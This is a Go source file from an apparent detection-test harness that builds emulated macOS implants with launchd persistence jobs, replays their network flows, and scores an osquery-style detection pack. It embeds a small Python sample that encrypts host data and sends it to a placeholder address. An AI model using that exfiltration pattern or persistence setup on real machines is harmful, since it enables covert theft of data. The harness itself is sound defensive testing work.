package main

import (
	"bytes"
	"cmp"
	"context"
	"embed"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"

	"github.com/cipherlens/cipherlens/internal/capture"
	"github.com/cipherlens/cipherlens/internal/flow"
	"github.com/cipherlens/cipherlens/testdata/emulation/wire"
)

//go:embed mac
var macSources embed.FS

// A macRow is what the pack made of one implant's job, executable and flow on a macOS volume.
type macRow struct {
	wire.Format
	Finding map[string]string // of the detection, or of the same without its filter of severity; nil: none
	Shown   bool              // the detection itself shows it
	Listed  string            // what the inventory of jobs lists for its executable
}

const (
	macFolder = "Library/Application Support/Emulation"
	macLabel  = "com.example.emulation."
)

// macWords say what the executables do.
var macWords = map[string]string{
	"CCCRYPT": "imports CommonCrypto's CCCrypt", "CCCRYPTOR": "imports CommonCrypto's CCCryptor", "CCMODE": "imports CommonCrypto's CCCryptor with a mode",
	"SECTRANSFORM": "imports Security.framework's SecTransform", "EVP": "imports OpenSSL's EVP", "GO": "a Go program with its own crypto", "TLS": "imports SecureTransport",
	"INLINE_RC4": "RC4 written out", "INLINE_AES": "an AES table inside", "XOR": "none but XOR", "DLSYM": "CCCrypt by dlsym, its name made at run time",
	"SCRIPT": "a Python script with ctypes", "RENAMED": "a copy that imports CCCrypt",
}

// mac makes a macOS volume with a job and an executable for each format, gives the flows of this campaign to them in a capture as Apple's tcpdump writes
// it (name and UUID, no path), and runs the pack on both.
func (c *campaign) mac(ctx context.Context) error {
	for _, tool := range []string{"clang-19", "ld64.lld-19", filepath.Join(c.bin, "annotate")} {
		if _, err := exec.LookPath(tool); err != nil {
			c.macNote = "skipped: " + tool + " is missing"
			return nil
		}
	}
	root := filepath.Join(c.work, "volume")
	if err := c.macVolume(ctx, root); err != nil {
		return fmt.Errorf("macOS volume: %w", err)
	}
	capture, err := c.macCapture(ctx, root)
	if err != nil {
		return fmt.Errorf("macOS capture: %w", err)
	}
	return c.macRun(ctx, root, capture)
}

// macVolume makes the tree.
func (c *campaign) macVolume(ctx context.Context, root string) error {
	sdk := filepath.Join(c.work, "sdk")
	if err := os.CopyFS(sdk, macSources); err != nil && !errors.Is(err, os.ErrExist) {
		return err
	}
	for _, dir := range []string{macFolder, "Library/LaunchDaemons", "System/Library/CoreServices", "usr/bin"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			return err
		}
	}
	version := propertyList("<key>ProductName</key>\n\t<string>macOS</string>\n\t<key>ProductVersion</key>\n\t<string>14.2.1</string>")
	if err := os.WriteFile(filepath.Join(root, "System/Library/CoreServices/SystemVersion.plist"), []byte(version), 0o644); err != nil {
		return err
	}
	for _, f := range wire.Formats() {
		if err := c.macJob(ctx, root, filepath.Join(sdk, "mac"), f); err != nil {
			return fmt.Errorf("%s: %w", f.Name, err)
		}
	}
	return nil
}

func propertyList(body string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
	` + body + `
</dict>
</plist>
`
}

// macJob makes one format's executable and the property list of its job.
func (c *campaign) macJob(ctx context.Context, root, sources string, f wire.Format) error {
	arguments := []string{"/" + macFolder + "/" + f.Name}
	target := filepath.Join(root, macFolder, f.Name)
	var err error
	switch f.Mac.API {
	case "GO":
		cmd := exec.CommandContext(ctx, "cp", filepath.Join(c.bin, "peer-darwin-"+f.Name), target)
		err = cmd.Run()
	case "SCRIPT":
		arguments = []string{"/usr/bin/" + macProcess(f), target[len(root):]}
		text := "import ctypes, socket\nlib = ctypes.CDLL(\"/usr/lib/libSystem.B.dylib\")\nout = ctypes.create_string_buffer(64)\nlib.CCCrypt(0, 4, 0, b\"0123456789abcdef\", 16, None, b\"host facts\", 10, out, 64, None)\nsocket.create_connection((\"198.51.100.1\", 443)).send(out.raw)\n"
		err = errors.Join(os.WriteFile(target, []byte(text), 0o755), link(ctx, sources, "XOR", f.Name, filepath.Join(root, "usr/bin", macProcess(f))))
	case "RENAMED":
		err = link(ctx, sources, "CCCRYPT", f.Name, target)
	default:
		err = link(ctx, sources, f.Mac.API, f.Name, target)
	}
	if err != nil {
		return err
	}
	body := "<key>Label</key>\n\t<string>" + macLabel + f.Name + "</string>\n\t<key>ProgramArguments</key>\n\t<array>\n"
	for _, a := range arguments {
		body += "\t\t<string>" + a + "</string>\n"
	}
	body += "\t</array>\n\t<key>RunAtLoad</key>\n\t<true/>\n\t<key>KeepAlive</key>\n\t<true/>"
	return os.WriteFile(filepath.Join(root, "Library/LaunchDaemons", macLabel+f.Name+".plist"), []byte(propertyList(body)), 0o644)
}

// macProcess is the name of the process that has the flow.
func macProcess(f wire.Format) string {
	if f.Mac.API == "SCRIPT" {
		return "python3"
	}
	return f.Name
}

// link compiles image.c for one API and links it, signed ad hoc.
func link(ctx context.Context, sources, api, name, target string) error {
	object := target + ".o"
	defer os.Remove(object)
	compile := exec.CommandContext(ctx, "clang-19", "-target", "arm64-apple-macos13.0", "-Os", "-ffreestanding", "-fno-stack-protector", "-fno-builtin",
		"-D"+api, "-DNAME=\""+name+"\"", "-c", filepath.Join(sources, "image.c"), "-o", object)
	if out, err := compile.CombinedOutput(); err != nil {
		return fmt.Errorf("clang: %w: %s", err, out)
	}
	libraries := []string{filepath.Join(sources, "libSystem.tbd")}
	switch api {
	case "SECTRANSFORM", "TLS":
		libraries = append(libraries, filepath.Join(sources, "Security.tbd"))
	case "EVP":
		libraries = append(libraries, filepath.Join(sources, "libcrypto.tbd"))
	}
	ld := exec.CommandContext(ctx, "ld64.lld-19", slices.Concat([]string{"-arch", "arm64", "-platform_version", "macos", "13.0", "14.0", "-fixup_chains", "-adhoc_codesign", object, "-o", target}, libraries)...)
	if out, err := ld.CombinedOutput(); err != nil {
		return fmt.Errorf("ld64.lld: %w: %s", err, out)
	}
	return os.Chmod(target, 0o755)
}

// macFlows are one flow of each format, of the first run.
func (c *campaign) macFlows() []*result {
	var all []*result
	seen := map[string]bool{}
	for _, shape := range []string{"interactive", "tiny", "check-in"} {
		for i := range c.flows {
			if r := &c.flows[i]; r.Run == 0 && r.Shape.Name == shape && !seen[r.Format.Name] && r.Log.Error == "" {
				seen[r.Format.Name] = true
				all = append(all, r)
			}
		}
	}
	return all
}

// macCapture cuts the flows out of the recording and lets testdata/annotate name their processes as Apple's tcpdump does.
func (c *campaign) macCapture(ctx context.Context, root string) (string, error) {
	cut, owners, file := filepath.Join(c.work, "mac-raw.pcapng"), filepath.Join(c.work, "mac-owners"), filepath.Join(c.work, "mac.pcapng")
	wanted := map[string]bool{}
	var lines strings.Builder
	for _, r := range c.macFlows() {
		wanted[r.Server.String()] = true
		for _, local := range r.Log.Local {
			transport := map[bool]string{true: "udp", false: "tcp"}[r.Format.UDP]
			fmt.Fprintln(&lines, transport, local, macProcess(r.Format))
		}
	}
	source, err := capture.OpenFile(c.recording)
	if err != nil {
		return "", err
	}
	defer source.Close()
	f, err := os.Create(cut)
	if err != nil {
		return "", err
	}
	err = copyPackets(ctx, source, f, func(h *flow.Header) bool { return wanted[h.Source().String()] || wanted[h.Destination().String()] })
	if err = errors.Join(err, f.Close(), os.WriteFile(owners, []byte(lines.String()), 0o600)); err != nil {
		return "", err
	}
	out, err := exec.CommandContext(ctx, filepath.Join(c.bin, "annotate"), "-root", root, "-owners", owners, "-in", cut, "-out", file).CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("annotate: %w: %s", err, out)
	}
	return file, nil
}

// macRun runs the pack, and the detection without its filter of severity, so that the report can tell low from none.
func (c *campaign) macRun(ctx context.Context, root, file string) error {
	dir := filepath.Join(c.work, "mac-logs")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	data, err := os.ReadFile(c.pack)
	if err != nil {
		return err
	}
	unfiltered := filepath.Join(dir, "unfiltered.conf")
	if err := os.WriteFile(unfiltered, bytes.ReplaceAll(data, []byte("severity <> 'low'"), []byte("severity <> ''")), 0o600); err != nil {
		return err
	}
	cmd := exec.CommandContext(ctx, c.ext, "run", "--pack", c.pack, "--pack", unfiltered, "--root", root, "--capture", file, "--config", filepath.Join(c.work, "none.yaml"), "--log-dir", dir, "--once")
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("run: %w: %s", err, out)
	}
	lines, err := resultLines(filepath.Join(dir, "osqueryd.results.log"))
	if err != nil {
		return err
	}
	for _, r := range c.macFlows() {
		row := macRow{Format: r.Format}
		for _, l := range lines {
			switch {
			case strings.HasSuffix(l.Name, "_detection") && l.Columns["remote_address"] == r.Server.Addr().String():
				row.Finding = l.Columns
				row.Shown = row.Shown || !strings.Contains(l.Name, "unfiltered")
			case l.Name == "pack_an0402_jobs" && l.Columns["label"] == macLabel+r.Format.Name:
				if listed := fmt.Sprintf("%s (%s)", l.Columns["provider"], l.Columns["evidence"]); !strings.HasSuffix(row.Listed, "(strong)") {
					row.Listed = listed
				}
			}
		}
		c.macRows = append(c.macRows, row)
	}
	return nil
}

// named says which of job, executable and API the finding names rightly.
func (r *macRow) named() string {
	path := "/" + macFolder + "/" + r.Name
	if r.Mac.API == "SCRIPT" {
		path = "/usr/bin/" + macProcess(r.Format)
	}
	var right []string
	if r.Finding["launchd_label"] == macLabel+r.Name {
		right = append(right, "job")
	}
	if r.Finding["path"] == path {
		right = append(right, "executable")
	}
	if r.Mac.Symbol != "" && strings.Contains(r.Finding["symbols"], r.Mac.Symbol) {
		right = append(right, "API")
	}
	return strings.Join(right, ", ")
}

func (c *campaign) macSection(b *strings.Builder) {
	b.WriteString("## The macOS half\n\nA launchd job and a Mach-O for each format, in a `--root` tree; the capture is Apple's pcapng with name and UUID of the process, no path. The executables encrypt with the API of the row; ")
	b.WriteString("signatures are ad hoc, also of the stand-ins for Apple's (python3, renamed-apple). Low severity is not in the scheduled detection, only in the hunt pack.\n\n")
	if c.macNote != "" {
		fmt.Fprintf(b, "%s\n\n", c.macNote)
		return
	}
	must, shown, low := 0, 0, 0
	for i := range c.macRows {
		if r := &c.macRows[i]; r.Class == wire.Random || r.Class == wire.Mimic {
			must++
			shown += count(r.Shown)
			low += count(r.Finding != nil && !r.Shown)
		}
	}
	fmt.Fprintf(b, "Of %d implants that can be found, the scheduled detection shows %d, and %d are of low severity: a random flow of a job whose executable brings its own cipher, which linkage does not see.\n\n", must, shown, low)
	b.WriteString("| implant | crypto of the executable | finding | severity | names | API named | jobs query lists |\n|---|---|---|---|---|---|---|\n")
	slices.SortStableFunc(c.macRows, func(a, b macRow) int { return cmp.Compare(a.Class, b.Class) })
	for i := range c.macRows {
		r := &c.macRows[i]
		found, names := "none", ""
		if r.Finding != nil {
			found, names = "hunt pack only", r.named()
			if r.Shown {
				found = "yes"
			}
			found += ", " + r.Finding["verdict"]
		} else if r.Class == wire.Blind {
			found = "none: blind"
		}
		fmt.Fprintf(b, "| %s | %s | %s | %s | %s | %s | %s |\n", r.Name, macWords[r.Mac.API], found, r.Finding["severity"], names, shortened(r.Finding["symbols"]), r.Listed)
	}
	b.WriteString("\n")
}

// shortened keeps a cell readable.
func shortened(s string) string {
	if len(s) > 80 {
		return s[:77] + "..."
	}
	return strings.ReplaceAll(s, ",", ", ")
}
